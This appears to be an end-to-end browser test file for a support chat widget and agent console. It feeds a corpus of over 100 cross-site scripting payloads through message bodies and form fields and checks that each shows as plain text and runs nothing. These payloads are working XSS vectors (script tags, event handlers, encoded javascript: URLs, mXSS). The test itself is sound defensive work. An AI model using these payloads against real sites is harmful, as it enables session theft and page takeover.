// Hostile text through every place a message body or requester-supplied field is rendered: the widget
// (inside its iframe on a demo host page) and the agent console, in real Chromium with a trap that
// records any script execution. Bodies are plain text end to end (DESIGN: no HTML in messages), so
// every payload must show as its literal text, run nothing, and add no markup that could run.
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_BODY_CHARS, type ServerFrame } from '@ajuda/protocol';
import { startTestStack, type TestStack } from '../../../server/src/testing.ts';
import { agent, idem, TestClient, V } from '../../../server/test/client.ts';
import { launchBrowser, newActor, openConversationAfterReload, openWidget, scanDom, signInConsole, widgetFrame, type Actor } from './browser.ts';

const LONG = 'W'.repeat(MAX_BODY_CHARS); // one unbroken 8,000-character word
const LONG_URL = `https://example.com/${'a'.repeat(MAX_BODY_CHARS - 20)}`; // a linkified unbroken string

/** The corpus: markup, handlers, URL schemes in many encodings, mXSS, template and markdown syntax, bidi. */
export const PAYLOADS: readonly string[] = [
  // script elements
  '<script>alert(1)</script>',
  "<script>__xss('script')</script>",
  '<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>',
  '"><script>alert(document.domain)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</code><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  `<img src="x" onerror="__xss('img')">`,
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src=x onerror=\\u0061lert(1)>',
  '<img src=x onerror="a=alert;a(1)">',
  "<img src=x onerror=top['al'+'ert'](1)>",
  '<img src=x onerror=window.parent.alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src="x\nonerror=alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(1) onerror=eval(src)>',
  "<IMG SRC=javascript:alert('XSS')>",
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>xss</marquee>',
  '<x onclick=alert(1)>click me</x>',
  '<div onmouseover="alert(1)" style="position:fixed;inset:0">cover</div>',
  '<a href=# onclick=alert(1)>x</a>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '"onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '</p><img src=x onerror=alert(1)><p>',
  '</li></ol><img src=x onerror=alert(1)>',
  '\\"><svg onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  // SVG and MathML
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  // mXSS: markup that changes meaning when serialised and parsed again
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style><style/><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  // frames, objects
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<portal src="javascript:alert(1)"></portal>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  // links and forms with javascript: (plain, entity, percent, unicode, whitespace-split)
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entity</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded entity</a>',
  '<a href="javascript&colon;alert(1)">named entity</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">percent</a>',
  '<a href="\\u006Aavascript:alert(1)">unicode escape</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="https://example.com" target=_blank>tabnabbing</a>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  'javascript:alert(1)',
  'JAVASCRIPT:alert(document.cookie)',
  ' javascript:alert(1)',
  'java\u200bscript:alert(1)',
  '&#106;avascript:alert(1)',
  '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)',
  '\\u006a\\u0061vascript:alert(1)',
  '\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1aalert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  // URLs the linkifier will see
  'https://example.com/"><img src=x onerror=alert(1)>',
  'https://example.com/path?q=<script>alert(1)</script>',
  'https://example.com/#javascript:alert(1)',
  "https://example.com/'onmouseover='alert(1)",
  'https://example.com/)javascript:alert(1)',
  'http://javascript:alert(1)@example.com',
  'see https://example.com/ok and javascript:alert(1) together',
  // styles
  '<div style="background:url(javascript:alert(1))">bg</div>',
  '<div style="width:expression(alert(1))">ie</div>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style>body{display:none}</style>',
  // template injection
  '{{7*7}}',
  '{{{7*7}}}',
  "{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('alert(1)')()}}",
  '${alert(1)}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '[[7*7]]',
  '<div v-html="\'<img src=x onerror=alert(1)>\'"></div>',
  // markdown
  '[x](javascript:alert(1))',
  '[click](javascript:alert%281%29)',
  '![img](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)',
  '[a](https://example.com "title" onclick="alert(1)")',
  // bidi and invisible characters
  '\u202Egnp.exe',
  'admin\u202E@evil.example',
  '\u202Ejavascript:alert(1)',
  'https://example.com/\u202Efdp.exe',
  'abc\u2066\u2067\u2068\u2069\u200e\u200f\u061c def',
  // odd but harmless
  '{"type":"message.created","message":{"body":"<img src=x onerror=alert(1)>"}}',
  '\u{1d4cd}\u{1d4c8}\u{1d4c8} <img src=x onerror=alert(1)> 🙂',
  // size
  LONG,
  LONG_URL,
];

/** Typed by hand in each UI (the rest go over the sockets). */
const TYPED = ['<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '{{7*7}} ${7*7}'];

let stack: TestStack;
let browser: Browser;
const actors: Actor[] = [];

beforeAll(async () => {
  stack = await startTestStack();
  browser = await launchBrowser();
});
afterAll(async () => {
  for (const a of actors) await a.close().catch(() => undefined);
  await browser?.close();
  await stack?.close();
});

let refs = 0;
/** Send a frame with a fresh ref; resolves with the first reply carrying it (an error reply rejects). */
async function call(c: TestClient, frame: Record<string, unknown>): Promise<ServerFrame> {
  for (;;) {
    const ref = `x${++refs}`;
    const from = c.frames.length;
    c.send({ ...frame, ref });
    const f = await c.waitAny((x) => 'ref' in x && x.ref === ref, 15_000, from);
    // The corpus goes out faster than a person types: wait as the limit says, then retry.
    if (f.type === 'error' && f.code === 'rate_limited') {
      await new Promise((res) => setTimeout(res, Math.ceil((f.retryAfter ?? 0.2) * 1000)));
      continue;
    }
    if (f.type === 'error') throw Object.assign(new Error(`${String(frame.type)}: error ${f.code}`), { frame: f });
    return f;
  }
}

/** message.send for each body in order, each acknowledged (call() waits out rate limits). */
async function sendAll(c: TestClient, conversationId: string, bodies: readonly string[], prefix: string): Promise<void> {
  let i = 0;
  for (const body of bodies) {
    const clientMsgId = `${prefix}-${i++}`;
    await call(c, { type: 'message.send', conversationId, clientMsgId, body });
  }
}

/** Scroll width ≤ client width: nothing sticks out sideways. */
async function overflow(target: Page | Frame, selector: string): Promise<Array<{ sw: number; cw: number }>> {
  return target.locator(selector).evaluateAll((els) => els.map((e) => ({ sw: e.scrollWidth, cw: e.clientWidth })));
}

function expectClean(a: Actor): void {
  expect(a.trap.hits, a.trap.hits.join('\n')).toEqual([]);
  expect(a.trap.dialogs).toEqual([]);
  // A blocked inline script/handler still means markup got into the DOM. (The console's zod eval probe
  // is reported on its own by leaks.e2e.test.ts.)
  expect(a.trap.violations.filter((v) => !(/script-src blocked eval/.test(v) && /\/console\//.test(v))), a.trap.violations.join('\n')).toEqual([]);
  expect(a.trap.errors.filter((e) => /pageerror/.test(e))).toEqual([]);
}

describe('XSS corpus through the widget and the console (Chromium, trap installed)', () => {
  it(`has at least 100 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
    expect(PAYLOADS.every((p) => p.length <= MAX_BODY_CHARS)).toBe(true);
  });

  it('the harness catches what it is meant to catch: a handler that runs, markup the CSP blocked, javascript: links', async () => {
    // Without this, a trap that never fires would make every assertion below pass vacuously.
    const probe = await newActor(browser, 'xss', 'probe');
    actors.push(probe);
    await probe.page.setContent('<p>probe</p>');
    await probe.page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="alert(1)"><a href=" java&#x09;script:alert(1)">x</a>');
    });
    await expect.poll(() => probe.trap.hits.length).toBe(1);
    expect(await scanDom(probe.page)).toHaveLength(2);
    // Under the widget's CSP the handler is blocked: the violation is what gives it away.
    const { frameHandle } = await openWidget(probe.page, `${stack.demoUrl}/site`);
    await frameHandle().evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="alert(2)">'));
    await expect.poll(() => probe.trap.violations.filter((v) => /script-src/.test(v)).length).toBeGreaterThan(0);
    expect(probe.trap.hits).toHaveLength(1);
    expect(await scanDom(frameHandle())).toHaveLength(1);
    await probe.close();
  });

  it('R7, R15: requester and agent payloads render as literal text in the widget and the console; nothing runs, no on*/javascript: markup, no sideways overflow', async () => {
    // ── the requester, a visitor on the marketing site, opens a conversation through the widget UI.
    const req = await newActor(browser, 'xss', 'requester');
    actors.push(req);
    const { frame } = await openWidget(req.page, `${stack.demoUrl}/site`);
    await frame.locator('.lang select').selectOption('en');
    await frame.getByRole('button', { name: /General question/ }).click();
    await frame.getByLabel('Your question').fill('<script>alert("intake")</script> {{7*7}}');
    await frame.getByRole('button', { name: 'Send to support' }).click();
    const idText = frame.locator('.conv-id code');
    await idText.waitFor();
    const conversationId = (await idText.textContent())!.trim();
    for (const body of TYPED) {
      await frame.getByLabel('Your message').fill(body);
      await frame.getByLabel('Your message').press('Enter');
      await frame.locator('.msg-list li:not(.msg-pending) .bubble', { hasText: body }).first().waitFor();
    }

    // The same visitor over a plain socket, with the token the widget stored (never in a URL).
    const stored = await widgetFrame(req.page).evaluate(() => Object.entries(localStorage).find(([k]) => k.endsWith(':visitorToken'))?.[1] ?? null);
    expect(stored).toBeTruthy();
    const visitor = await TestClient.connect(stack.wsUrl, stack.demoUrl);
    await visitor.request({ type: 'session.hello', v: V, channel: 'website', visitorToken: stored }, 'session.ready');
    await sendAll(visitor, conversationId, PAYLOADS, 'req');

    // ── the agent side over the agents' socket: a lead takes it and answers with the same corpus.
    const lea = await agent(stack, 'lea@ajuda.local');
    await call(lea, { type: 'conversation.open', conversationId });
    await call(lea, { type: 'conversation.assign', conversationId });
    await sendAll(lea, conversationId, PAYLOADS, 'agent');

    // A second visitor puts payloads in the other rendered fields: claims, intake answers, escalation, feedback.
    const other = await TestClient.connect(stack.wsUrl, stack.demoUrl);
    await other.request({ type: 'session.hello', v: V, channel: 'website', locale: 'en' }, 'session.ready');
    const started = await other.request(
      {
        type: 'conversation.start',
        idempotencyKey: idem(),
        requestType: 'general_question',
        locale: 'en',
        answers: { question: '<img src=x onerror=alert("question")> [q](javascript:alert(1)) ' + 'Q'.repeat(3000) },
        claims: { name: '<svg onload=alert("name")>', email: '"><img src=x onerror=alert(1)>@x.example', realm: '<a href="javascript:alert(1)">realm</a>' },
      },
      'conversation.started',
    );
    const second = started.conversation.id;
    await other.request(
      {
        type: 'escalation.create',
        conversationId: second,
        reason: 'disagree',
        description: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe> ' + 'D'.repeat(3000),
        environment: 'Prod',
        justification: '[why](javascript:alert(1)) <img src=x onerror=alert("justification")>',
      },
      'escalation.created',
    );
    await call(lea, { type: 'conversation.open', conversationId: second });
    await call(lea, { type: 'conversation.resolve', conversationId: second });
    await other.wait('feedback.requested', (f) => f.conversationId === second);
    await other.request({ type: 'feedback.submit', conversationId: second, answered: false, comment: '<details open ontoggle=alert("feedback")>' }, 'feedback.recorded');

    // ── the widget renders the whole history after a reload.
    await req.page.reload();
    await openConversationAfterReload(req.page, conversationId);
    const expected = 1 + TYPED.length + 2 * PAYLOADS.length; // + system messages
    await expect.poll(() => frame.locator('.msg-list li.msg-agent').count(), { timeout: 30_000 }).toBe(PAYLOADS.length);
    // (The thread also opens with the requester's intake question, .msg-intake: not a message.)
    expect(await frame.locator('.msg-list li.msg-requester:not(.msg-pending):not(.msg-intake)').count()).toBe(TYPED.length + PAYLOADS.length);
    expect(await frame.locator('.msg-list li[data-seq]').count()).toBeGreaterThanOrEqual(expected - 1);
    const wf = widgetFrame(req.page);
    // Literal text: the markup is shown, not parsed.
    const bubbles = await wf.locator('.msg-list .bubble').allTextContents();
    for (const p of ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '[x](javascript:alert(1))', '{{7*7}}', '\u202Egnp.exe', LONG]) {
      expect(bubbles.filter((b) => b === p).length, p.slice(0, 60)).toBeGreaterThanOrEqual(2);
    }
    expect(bubbles.some((b) => b === '49')).toBe(false);
    // Scroll the list top to bottom so everything has been laid out and painted.
    await wf.locator('.msg-list li').first().scrollIntoViewIfNeeded();
    await wf.locator('.msg-list li').last().scrollIntoViewIfNeeded();
    expect(await scanDom(wf)).toEqual([]);
    // Only http(s) links, all opened safely.
    const links = await wf.locator('.msg-list a').evaluateAll((as) => as.map((a) => ({ href: a.getAttribute('href') ?? '', rel: a.getAttribute('rel') ?? '' })));
    expect(links.length).toBeGreaterThan(0);
    for (const l of links) {
      expect(l.href).toMatch(/^https?:\/\//);
      expect(l.rel).toContain('noopener');
    }
    // The unbroken 8,000-character string and the long URL wrap inside the panel.
    for (const o of await overflow(wf, '.msg-list')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    for (const o of await overflow(wf, 'html')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    await wf.locator('.msg-list .bubble', { hasText: 'WWWWWWWW' }).first().scrollIntoViewIfNeeded();
    await req.shot('widget-long-string');
    await wf.locator('.msg-list .bubble', { hasText: 'onerror' }).first().scrollIntoViewIfNeeded();
    await req.shot('widget-payloads');

    // ── the console renders the same conversation, typed payloads included.
    const con = await newActor(browser, 'xss', 'console', { viewport: { width: 1400, height: 900 } });
    actors.push(con);
    await signInConsole(con.page, stack.url, 'lea@ajuda.local');
    await con.page.goto(`${stack.url}/console/#/inbox/${conversationId}`);
    const log = con.page.getByRole('log');
    await log.waitFor();
    await expect.poll(() => con.page.locator('.msgs li.msg--agent').count(), { timeout: 30_000 }).toBe(PAYLOADS.length);
    for (const body of TYPED) {
      const box = con.page.getByPlaceholder('Write a reply to the requester');
      await box.fill(body);
      await box.press('Enter');
      await con.page.locator('.msgs li.msg--agent:not(.msg--pending) .msg-body', { hasText: body }).first().waitFor();
    }
    const bodies = await con.page.locator('.msgs .msg-body').allTextContents();
    for (const p of ['<img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '[x](javascript:alert(1))', LONG]) {
      expect(bodies.filter((b) => b === p).length, p.slice(0, 60)).toBeGreaterThanOrEqual(2);
    }
    await con.page.locator('.msgs li').first().scrollIntoViewIfNeeded();
    await con.page.locator('.msgs li').last().scrollIntoViewIfNeeded();
    expect(await scanDom(con.page)).toEqual([]);
    for (const o of await overflow(con.page, '.msgs-scroll')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    for (const o of await overflow(con.page, '.msgs')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    await con.page.locator('.msgs .msg-body', { hasText: 'WWWWWWWW' }).first().scrollIntoViewIfNeeded();
    await con.shot('console-long-string');

    // The widget receives the console's typed payloads live, still as text.
    for (const body of TYPED) await frame.locator('.msg-list li.msg-agent .bubble', { hasText: body }).first().waitFor();
    expect(await scanDom(widgetFrame(req.page))).toEqual([]);

    // The second conversation: claims, intake card, escalation and feedback panels.
    await con.page.goto(`${stack.url}/console/#/inbox/${second}`);
    await con.page.locator('section.intake', { hasText: '<img src=x onerror=alert("question")>' }).waitFor();
    await con.page.locator('.conv-meta', { hasText: '<svg onload=alert("name")>' }).waitFor();
    await con.page.locator('section.panel--esc', { hasText: '<iframe srcdoc=' }).waitFor();
    await con.page.locator('section[aria-labelledby="feedback-title"]', { hasText: '<details open ontoggle=alert("feedback")>' }).waitFor();
    expect(await scanDom(con.page)).toEqual([]);
    for (const o of await overflow(con.page, 'section.intake')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    await con.shot('console-fields');
    // The leads' view lists the escalation with the same text.
    await con.page.getByRole('link', { name: 'Leads' }).click();
    await con.page.locator('li.card--esc', { hasText: second }).waitFor();
    await expect.poll(() => con.page.locator('li.card--esc', { hasText: second }).textContent()).toContain('[why](javascript:alert(1))');
    expect(await scanDom(con.page)).toEqual([]);
    for (const o of await overflow(con.page, 'main.leads')) expect(o.sw).toBeLessThanOrEqual(o.cw);
    await con.shot('console-leads');

    expectClean(req);
    expectClean(con);
    visitor.close();
    other.close();
    lea.close();
  });
});
